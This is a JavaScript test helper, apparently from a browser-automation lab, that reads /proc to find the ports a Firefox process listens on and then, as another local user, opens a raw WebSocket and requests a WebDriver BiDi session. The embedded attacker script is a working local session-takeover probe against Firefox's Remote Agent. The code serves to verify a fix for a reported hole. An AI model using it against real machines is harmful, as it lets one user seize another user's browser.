// What another local user can do with a Firefox the lab started: find the ports Firefox listens on
// (its own network namespace's socket table, read through the host's /proc as the person may),
// then, as that user, connect to each on this namespace's loopback and ask WebDriver BiDi for a
// session, as the attack in issue 40 would. Firefox's Remote Agent takes a client that sends no
// Origin and gives its one session to whoever asks first.
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync, readlinkSync } from 'node:fs';

/**
 * The TCP ports process `pid` listens on, from its namespace's table: the lines in LISTEN state
 * (0A) whose socket inode is one of the process's descriptors.
 * @param {number} pid
 */
export function listeningPorts(pid) {
  const inodes = new Set();
  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
    try {
      const m = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`));
      if (m) inodes.add(m[1]);
    } catch {
      // closed meanwhile
    }
  }
  const ports = new Set();
  for (const table of ['tcp', 'tcp6']) {
    let text;
    try {
      text = readFileSync(`/proc/${pid}/net/${table}`, 'utf8');
    } catch {
      continue; // no IPv6 here
    }
    for (const line of text.split('\n').slice(1)) {
      const f = line.trim().split(/\s+/);
      if (f[3] === '0A' && inodes.has(f[9])) ports.add(parseInt(f[1].split(':')[1], 16));
    }
  }
  return [...ports];
}

// Run as the other user: a WebSocket upgrade to /session and a session.new, raw (no package:
// nobody cannot read the project's node_modules under /root). Prints one line of JSON.
const attacker = `
const net = require('node:net');
const port = Number(process.argv[1]);
const done = (o) => process.stdout.write(JSON.stringify(o) + '\\n', () => process.exit(0));
const s = net.connect(port, '127.0.0.1');
s.setTimeout(5000, () => done({ outcome: 'timeout' }));
s.on('error', (e) => done({ outcome: 'unreachable', code: e.code }));
let got = '';
// Firefox upgrades, then closes at once when its one session is taken: that too was reached.
s.on('end', () => done(/^HTTP\\/1\\.1 101/.test(got) ? { outcome: 'websocket', reply: 'closed after the upgrade' } : { outcome: 'closed', status: got.split('\\r\\n')[0] }));
s.on('connect', () => s.write('GET /session HTTP/1.1\\r\\nHost: 127.0.0.1:' + port + '\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n'));
s.on('data', (d) => {
  got += d.toString('latin1');
  if (!got.includes('\\r\\n\\r\\n')) return;
  if (!/^HTTP\\/1\\.1 101/.test(got)) return done({ outcome: 'no-websocket', status: got.split('\\r\\n')[0] });
  if (got.length > got.indexOf('\\r\\n\\r\\n') + 4) return done({ outcome: 'websocket', reply: got.slice(got.indexOf('\\r\\n\\r\\n') + 4).replace(/[^ -~]/g, '') });
  const body = Buffer.from(JSON.stringify({ id: 1, method: 'session.new', params: { capabilities: {} } }));
  const frame = Buffer.alloc(8 + body.length);
  frame[0] = 0x81; frame[1] = 0x80 | 126; frame.writeUInt16BE(body.length, 2);
  for (let i = 0; i < body.length; i++) frame[8 + i] = body[i]; // mask 0,0,0,0
  s.write(frame);
  got += '\\r\\n\\r\\n';
});
`;

/**
 * Connects to 127.0.0.1:`port` as `uid` and asks for a BiDi session: { outcome: 'unreachable'
 * (refused), 'no-websocket', 'websocket' (Firefox's Remote Agent answered; reply: its answer to
 * session.new), 'timeout' }.
 * @param {number} uid @param {number} port
 * @returns {Promise<{ outcome: string, code?: string, status?: string, reply?: string }>}
 */
export function bidiAs(uid, port) {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['-e', attacker, String(port)], { uid, gid: uid, cwd: '/', stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.on('error', reject);
    child.on('close', () => {
      try {
        resolve(JSON.parse(out));
      } catch {
        reject(new Error(`the probe printed ${JSON.stringify(out)}`));
      }
    });
  });
}
